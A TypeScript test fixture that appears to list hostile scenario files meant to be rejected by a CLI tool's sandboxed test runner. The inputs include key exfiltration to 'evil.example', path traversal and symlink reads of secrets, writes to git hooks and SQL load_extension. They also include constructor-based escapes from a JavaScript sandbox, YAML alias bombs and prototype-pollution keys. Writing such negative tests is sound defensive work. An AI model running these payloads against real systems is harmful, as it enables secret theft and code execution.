/*
 * Files that somebody sends in who wants more than a test: a key, the network, another folder, the live mode, the
 * configuration of whoever runs them. `OUT` stands for a folder outside, `URL` for a server that must hear nothing.
 */

/** One file: what it is after, and its text behind `version: 1`. */
export type Hostile = readonly [about: string, text: string];

const line = (...words: readonly string[]) => `steps:\n  - run: ${JSON.stringify(words)}\n`;
/** A line whose words are known only when it runs: what is bound becomes the word. */
const bound = (value: string, ...words: readonly string[]) =>
  `cases: [{ evil: ${JSON.stringify(value)} }]\n${line(...words)}`;

export const ESCAPES: readonly Hostile[] = [
  // Other commands.
  ['a login', line('login', 'mine', '--test-key', 'env:COPS_API_KEY', '--base-url', 'URL')],
  ['a configuration', line('config', 'set', 'base_url', 'URL')],
  ['a profile', line('profiles', 'list')],
  ['a recording', line('test', '--record', 'A1b2C3d4E5f6G7h8I9j0')],
  ['events that are forwarded', line('events', 'listen', '--forward-to', 'URL')],
  ['an update', line('update')],
  ['a browser', line('open', 'sales')],
  ['a server', line('sandbox', 'serve', '--port', '0')],
  ['a reset', line('sandbox', 'reset')],
  ['scenarios in scenarios', line('test', '.')],
  ['an alias', line('alias', 'set', 'sales', 'config list')],
  ['everything thrown away', line('reset', '--yes')],
  ['tools for agents', line('mcp')],
  ['a file of another program', line('mcp', 'install', '--file', 'OUT/mcp.json')],
  ['a command behind an option that takes a value', line('-o', 'sales', 'login', 'x', '--test-key', 'env:HOME')],
  ['a command behind a column', line('--columns', 'customers', 'profiles', 'list')],
  ['a command behind a zone', line('--tz', 'customers', 'doctor')],
  ['a subcommand behind an option', line('sandbox', '--columns', 'status', 'serve')],
  ['a command that is bound', bound('login', '${case.evil}', 'x')],
  ['a subcommand that is bound', bound('serve', 'sandbox', '${case.evil}')],
  ['an end that never comes', line('api-calls', 'tail')],
  // Addresses, profiles and keys.
  ['a base URL', line('sales', 'list', '--base-url', 'URL')],
  ['an option that is cut short', line('sales', 'list', '--base=URL')],
  ['an option with another dash', line('sales', 'list', '–-base-url', 'URL')],
  ['a base URL in one word', line('sales', 'list', '--base-url=URL')],
  ['a base URL that is bound', bound('--base-url=URL', 'sales', 'list', '${case.evil}')],
  ['the profile', line('sales', 'list', '--profile', 'shop')],
  ['the profile, shortly', line('sales', 'list', '-p', 'shop', '--live')],
  ['the profile among letters', line('sales', 'list', '-qp', 'shop')],
  ['the profile that is bound', bound('-pshop', 'sales', 'list', '${case.evil}')],
  ['the profile of a comparison', line('setup', 'diff', '--from', 'shop:live', '--to', 'sandbox:test')],
  [
    'the profile of a promotion',
    line('setup', 'promote', 'products', '--from', 'sandbox:test', '--to', 'shop:live', '--yes'),
  ],
  ['a key to another host', line('sales', 'list', '--send-key-to', 'evil.example')],
  ['an address in the place of a path', line('api', 'GET', 'URL/sales')],
  ['an address without a scheme', line('api', 'GET', '//evil.example/sales')],
  // Variables.
  [
    'the base URL as a secret',
    'given: { setup: shop, secrets: { COPS_BASE_URL: URL, COPS_PROFILE: shop } }\nsteps: [{ advance: 1d }]\n',
  ],
  ['a home as a secret', 'given: { setup: shop, secrets: { HOME: OUT } }\nsteps: [{ advance: 1d }]\n'],
  ['a data folder as a secret', 'given: { setup: shop, secrets: { COPS_DATA_DIR: OUT } }\nsteps: [{ advance: 1d }]\n'],
  ['a proxy', 'given: { setup: shop, secrets: { COPS_PROXY: URL } }\nsteps: [{ advance: 1d }]\n'],
  // Reading elsewhere.
  ['a value of a file outside', line('projects', 'create', '--name', '@OUT/secret.txt')],
  ['a body of a file outside', line('projects', 'create', '--body', '@OUT/secret.json')],
  ['a body of a file upwards', line('projects', 'create', '--body', '@../outside/secret.json')],
  ['a body of a file upwards in a datum', line('projects', 'create', '-d', 'name=@../outside/secret.txt')],
  ['a body behind a link', line('projects', 'create', '-d', 'name=@link.txt')],
  ['a body below a link', line('projects', 'create', '-d', 'name=@linked/secret.txt')],
  ['a body behind a link in one word', line('projects', 'create', '-dname=@link.txt')],
  [
    'a form of columns behind a link',
    line('export', 'campaigns', '--out', 'c.jsonl', '--schema', 'linked/secret.json'),
  ],
  ['a body that is bound', bound('name=@../outside/secret.txt', 'projects', 'create', '-d', '${case.evil}')],
  ['a body of a home', line('projects', 'create', '-d', 'name=@~/.config/cops/config.json')],
  ['rows outside', line('bulk', 'projects', 'create', '--input', 'OUT/rows.csv')],
  ['rows behind a link', line('bulk', 'projects', 'create', '--input', 'linked/rows.csv')],
  ['ids outside', line('bulk', 'projects', 'edit', '--ids', '../outside/rows.csv')],
  ['a query outside', line('sql', '--file', '../outside/secret.txt')],
  ['a mirror outside', line('sql', '--mirror', 'OUT/mirror.sqlite', 'select 1')],
  ['a mirror behind a link', line('sql', '--mirror', 'linked/mirror.sqlite', 'select 1')],
  ['a table outside', line('sql', 'select * from rows', '--with', 'OUT/rows.csv')],
  ['a table with a name behind a link', line('sql', 'select * from x', '--with', 'x=linked/rows.csv')],
  ['a file reconciled outside', line('reconcile', 'linked/rows.csv', '--month', 'last')],
  ['a database attached', line('sql', "attach 'OUT/mirror.sqlite' as x")],
  ['a file read by a query', line('sql', "select readfile('OUT/secret.txt')")],
  ['an extension', line('sql', "select load_extension('OUT/evil.so')")],
  ['a database written by a query', line('sql', "vacuum into 'OUT/stolen.sqlite'")],
  ['answers outside', line('sandbox', 'answers', 'linked/answers.json')],
  ['a journal', line('bulk', 'resume', 'evil.journal')],
  ['a journal of a set-up', line('setup', 'resume', 'evil.journal')],
  ['a kept plan whose folder is outside', line('setup', 'apply', 'evil-plan.json', '--yes')],
  ['a set-up outside', 'given: { setup: ../outside/shop }\nsteps: [{ advance: 1d }]\n'],
  ['a set-up at an absolute path', 'given: { setup: OUT/shop }\nsteps: [{ advance: 1d }]\n'],
  ['a set-up behind a link', 'given: { setup: linked/shop }\nsteps: [{ advance: 1d }]\n'],
  ['a set-up that holds a link', 'given: { setup: leaking }\nsteps: [{ advance: 1d }]\n'],
  // Writing elsewhere.
  ['an export outside', line('export', 'campaigns', '--out', 'OUT/stolen.jsonl')],
  ['an export upwards', line('export', 'campaigns', '--out', '../stolen.jsonl')],
  ['an export below a link', line('export', 'campaigns', '--out', 'linked/stolen.jsonl')],
  ['an export into a link that leads nowhere yet', line('export', 'campaigns', '--out', 'dangling.jsonl')],
  ['an export that is bound', bound('--out=OUT/stolen.jsonl', 'export', 'campaigns', '${case.evil}')],
  ['a hook of a repository', line('export', 'campaigns', '--out', '.git/hooks/pre-commit')],
  ['a mirror written outside', line('sync', '../stolen.sqlite', 'campaigns')],
  ['a mirror written below a link', line('sync', 'linked/stolen.sqlite', 'campaigns')],
  ['a page outside', line('overview', '--html', 'linked/stolen.html')],
  ['a page of a report outside', line('report', 'revenue', '--html=OUT/stolen.html')],
  [
    'a journal outside',
    line('bulk', 'projects', 'create', '--input', 'rows.csv', '--journal', 'linked/stolen.journal'),
  ],
  ['a plan outside', line('setup', 'plan', 'shop', '--out', 'linked/stolen.json')],
  ['a set-up written outside', line('setup', 'pull', 'linked/stolen')],
  ['a set-up begun outside', line('setup', 'init', '../stolen')],
  ['a path with a zero in it', line('export', 'campaigns', '--out', 'a\u0000/../../stolen.jsonl')],
  ['a path of another system', line('export', 'campaigns', '--out', 'C:\\stolen.jsonl')],
  // Programs.
  ['an editor', line('projects', 'edit', 'A1b2C3d4E5f6G7h8I9j0', '--editor', 'touch OUT/stolen')],
  ['a key of a command', line('api', 'GET', '/sales', '--test-key', 'cmd:touch OUT/stolen')],
  [
    'what the service was reached by',
    'steps:\n  - run: sandbox status\n    as: s\n  - run: [export, campaigns, --out, "${s.file}"]\n',
  ],
  // What the text itself does.
  ['aliases that multiply', `cases:\n  - &a { x: [1, 2, 3, 4, 5, 6, 7, 8, 9] }\n${bomb()}${line('projects', 'list')}`],
  ['a text nested without end', `about: ${'['.repeat(50_000)}\n${line('projects', 'list')}`],
  ['a name that is a prototype', `cases: [{ __proto__: { evil: x } }]\n${line('login', 'x')}`],
  ['a merge of keys', `cases: [{ <<: { evil: login } }]\n${line('login', 'x')}`],
  ['an alias that is a command', `about: &a login\nsteps:\n  - run: [*a, x]\n`],
  // What shared steps bring.
  ['a command in shared steps', `shared: { evil: [{ run: login x }] }\nsteps: [{ use: evil }]\n`],
  ['a file as shared steps', 'steps: [{ use: ../outside/steps.yaml }]\n'],
  ['shared steps of a prototype', 'steps: [{ use: constructor }]\n'],
  [
    'shared steps with a command as a value',
    `shared: { evil: [{ run: '\${with.word} x' }] }\nsteps: [{ use: evil, with: { word: login } }]\n`,
  ],
  [
    'shared steps with a path as a value',
    `shared: { evil: [{ run: [export, campaigns, --out, '\${with.to}'] }] }\nsteps: [{ use: evil, with: { to: OUT/stolen.jsonl } }]\n`,
  ],
  ['shared steps that use themselves', 'shared: { a: [{ use: b }], b: [{ use: a }] }\nsteps: [{ use: a }]\n'],
  ['shared steps that multiply', `shared:\n${doubled()}steps: [{ use: s0 }]\n`],
  // What is given.
  ['a snapshot upwards', 'given: { snapshot: ../../outside/mirror }\nsteps: [{ advance: 1d }]\n'],
  ['a snapshot at an absolute path', 'given: { snapshot: OUT/mirror }\nsteps: [{ advance: 1d }]\n'],
  [
    'stubs in front of the network',
    `given: { stubs: [{ url: 'http://x/*', body: {} }] }\n${code("fetch('URL').then(() => callback(null, 1), (e) => callback(String(e)))")}`,
  ],
  [
    'the world behind a stub',
    `given: { stubs: [] }\n${code("callback(null, fetch.constructor('return process')().mainModule.require('fs'))")}`,
  ],
  // What code of functions does.
  ['a function that fetches', code("fetch('URL').then(() => callback(null, 1), (e) => callback(String(e)))")],
  ['a function that asks for a module', code("callback(null, require('fs').readFileSync('OUT/secret.txt', 'utf8'))")],
  [
    'a function that imports',
    code(
      "import('node:fs').then((fs) => callback(null, fs.readFileSync('OUT/secret.txt')), (e) => callback(String(e)))",
    ),
  ],
  [
    'a function that reads variables',
    code("callback(process.env.COPS_API_KEY ? null : 'none', process.env.COPS_API_KEY)"),
  ],
  [
    'a function that leaves its world',
    code("callback(null, this.constructor.constructor('return process')().mainModule.require('fs'))"),
  ],
  ['a function of a file outside', line('functions', 'run', '../outside/secret.txt', '--event', 'sale.created')],
  ['scenarios in a deploy', line('functions', 'deploy', 'rows.csv', '--name', 'x', '--scenario', 'evil.test.yaml')],
  // Files of what a sandbox holds.
  ['a seed outside', line('sandbox', 'seed', '../outside/shop.yaml')],
  ['a seed behind a link', line('sandbox', 'seed', 'linked/shop.yaml')],
  ['a snapshot', line('sandbox', 'snapshot', 'save', 'stolen')],
];

function bomb(): string {
  let text = '';
  for (let level = 0; level < 12; level++) {
    const before = level === 0 ? 'a' : `b${level - 1}`;
    text += `  - &b${level} { x: [${Array(9).fill(`*${before}`).join(', ')}] }\n`;
  }
  return text;
}

/** Shared steps of which each uses the next one twice. */
function doubled(): string {
  const names = Array.from({ length: 40 }, (_, at) => `  s${at}: [{ use: s${at + 1} }, { use: s${at + 1} }]\n`);
  return `${names.join('')}  s40: [{ expect: [{ list: projects, count: '>=0' }] }]\n`;
}

/** Code of a function that is run with the newest sale: it must fail. */
function code(text: string): string {
  return `steps:\n  - event: sale.created.success.paid\n  - run: functions run - --event sale.created\n    input: ${JSON.stringify(text)}\n`;
}
